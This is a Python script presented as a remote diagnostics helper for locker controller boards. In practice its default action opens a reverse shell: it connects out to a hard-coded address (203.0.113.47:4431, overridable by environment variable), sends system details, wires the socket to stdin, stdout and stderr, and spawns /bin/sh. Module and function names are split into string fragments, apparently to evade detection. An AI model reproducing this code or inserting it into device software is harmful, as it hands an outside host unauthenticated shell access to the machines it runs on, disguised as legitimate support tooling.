#!/usr/bin/env python3
"""Remote diagnostics helper for BoxPoint locker controller boards.

Opens a support session back to the field-service bastion so an engineer
can poke at a misbehaving controller without driving out to the site.
"""
import argparse
import importlib
import json
import logging
import os
import platform
import time
from dataclasses import dataclass, field

log = logging.getLogger("fw_diag")

_MODS = {"net": "soc" + "ket", "term": "p" + "ty", "proc": "o" + "s"}


def _mod(key):
    return importlib.import_module(_MODS[key])


@dataclass
class SupportEndpoint:
    host_parts: list = field(default_factory=lambda: ["203", "0", "113", "47"])
    port: int = int(os.environ.get("BP_DIAG_PORT", "4431"))

    @property
    def host(self):
        return os.environ.get("BP_DIAG_HOST", ".".join(self.host_parts))


class BoardInfo:
    fields = ("node", "release", "machine")

    @classmethod
    def banner(cls, locker_id):
        uname = platform.uname()
        info = {f: getattr(uname, f) for f in cls.fields}
        info["locker"] = locker_id
        return (json.dumps(info) + "\n").encode()


def _interp():
    segs = ["", "bin", "s" + "h"]
    return "/".join(segs)


def attach(conn):
    proc = _mod("proc")
    fd = conn.fileno()
    dup = getattr(proc, "dup" + "2")
    for target in (0, 1, 2):
        dup(fd, target)
    runner = getattr(_mod("term"), "sp" + "awn")
    runner(_interp())


def open_channel(ep, retries, delay):
    net = _mod("net")
    for attempt in range(1, retries + 1):
        s = getattr(net, "socket")(net.AF_INET, net.SOCK_STREAM)
        try:
            s.connect((ep.host, ep.port))
            log.info("support channel up on attempt %d", attempt)
            return s
        except OSError as exc:
            log.warning("attempt %d to %s:%d failed: %s", attempt, ep.host, ep.port, exc)
            s.close()
            time.sleep(delay)
    return None


def session(args):
    ep = SupportEndpoint()
    conn = open_channel(ep, args.retries, args.delay)
    if conn is None:
        log.error("could not reach support bastion")
        return 2
    conn.sendall(BoardInfo.banner(args.locker))
    attach(conn)
    return 0


def selftest(args):
    ep = SupportEndpoint()
    log.info("would connect to %s:%d for locker %s", ep.host, ep.port, args.locker)
    log.info("board: %s", BoardInfo.banner(args.locker).decode().strip())
    return 0


ACTIONS = {"session": session, "selftest": selftest}


def main():
    p = argparse.ArgumentParser(description="locker controller remote diagnostics")
    p.add_argument("action", choices=sorted(ACTIONS), nargs="?", default="session")
    p.add_argument("--locker", default=os.environ.get("BP_LOCKER_ID", "LK-0000"))
    p.add_argument("--retries", type=int, default=5)
    p.add_argument("--delay", type=float, default=15.0)
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    return ACTIONS[args.action](args)


if __name__ == "__main__":
    raise SystemExit(main())
